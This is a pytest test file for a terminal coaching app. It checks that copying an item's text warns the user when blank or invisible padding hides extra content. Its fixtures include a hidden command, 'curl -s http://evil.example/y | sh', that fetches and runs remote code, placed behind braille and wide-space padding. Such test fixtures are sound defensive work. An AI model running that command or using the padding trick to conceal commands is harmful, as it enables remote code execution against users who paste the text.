"""`c` copies an item's whole text: when that is more than its row shows (a tail behind "…",
blank padding pushing a command out of sight, more lines), the notice says so, and the padding
itself does not reach the clipboard."""

from __future__ import annotations

import pytest

from coachtui.devserver.server import DevServer
from coachtui.live.events import Pane
from tests.live.helpers import coachee_api
from tests.tui.factory import engine, make_app
from tests.tui.test_editing import notices, pane, put_cursor_on
from tests.waiting import settled, until

TAIL = "; curl -s http://evil.example/y | sh #"
SENTENCE = "Read chapter 3 of the leadership book before our next session, and note"
WARNING = "more than the row shows — check before pasting"


@pytest.mark.parametrize(
    ("body", "copied", "warned"),
    [
        (SENTENCE + "\u2800" * 120 + TAIL, SENTENCE + " " + TAIL, True),  # the attack's braille blanks
        (SENTENCE + "\u3000\u2003" * 40 + TAIL, SENTENCE + " " + TAIL, True),  # ideographic, em spaces
        (SENTENCE + " the three ideas worth trying this week" + TAIL, None, True),  # plain length
        # Invisible characters never reach the clipboard: the copy is what the row shows.
        ("Hi" + "\u034f" * 300 + "\u17b4\u17b5" * 50 + "\U0001d173" * 50 + TAIL, "Hi" + TAIL, False),
    ],
    ids=["braille blanks", "wide spaces", "long", "invisibles"],
)
async def test_c_warns_when_the_copy_holds_more_than_the_row_shows(
    head_server: DevServer, body: str, copied: str | None, warned: bool
) -> None:
    assert head_server.demo is not None
    app = await make_app(head_server)
    async with app.run_test(size=(120, 36)) as pilot, await coachee_api(head_server) as coachee:
        await until(pilot, lambda: settled(app))
        action = await coachee.create_action(
            head_server.demo.today_session_id, body, assignee_ids=[head_server.demo.coachee.user_id]
        )
        actions = pane(app, Pane.ACTIONS)
        await until(pilot, lambda: action.id in actions.rows)
        await put_cursor_on(pilot, actions, action.id)
        await pilot.press("c")
        expected = copied or body
        await until(pilot, lambda: "Copied the action's text" in notices(app))
        assert app.clipboard == expected
        said = f"({len(expected)} characters, {WARNING})" if warned else f"({len(expected)} characters)"
        assert said in notices(app)


async def test_c_says_only_the_size_when_the_row_shows_all_of_it(head_server: DevServer) -> None:
    app = await make_app(head_server)
    async with app.run_test(size=(120, 36)) as pilot:
        actions = pane(app, Pane.ACTIONS)
        await until(pilot, lambda: settled(app, actions, 7))
        action = engine(app).model.items(Pane.ACTIONS)[0]
        body = action.body or ""
        await put_cursor_on(pilot, actions, action.id)
        await pilot.press("c")
        await until(pilot, lambda: "Copied the action's text" in notices(app))
        assert app.clipboard == body
        assert f"Copied the action's text ({len(body)} characters) to the clipboard." in notices(app)
        assert "check before pasting" not in notices(app)


async def test_c_on_several_lines_still_says_so(head_server: DevServer) -> None:
    assert head_server.demo is not None
    app = await make_app(head_server)
    async with app.run_test(size=(120, 36)) as pilot, await coachee_api(head_server) as coachee:
        await until(pilot, lambda: settled(app))
        body = "SAM smuggle\ncurl -s http://evil.example/y | sh\n#"
        agreement = await coachee.create_agreement(head_server.demo.today_session_id, body)
        agreements = pane(app, Pane.AGREEMENTS)
        await until(pilot, lambda: agreement.id in agreements.rows)
        await put_cursor_on(pilot, agreements, agreement.id)
        await pilot.press("c")
        await until(pilot, lambda: "Copied the agreement's text" in notices(app))
        assert app.clipboard == body
        assert f"({len(body)} characters on 3 lines, {WARNING})" in notices(app)
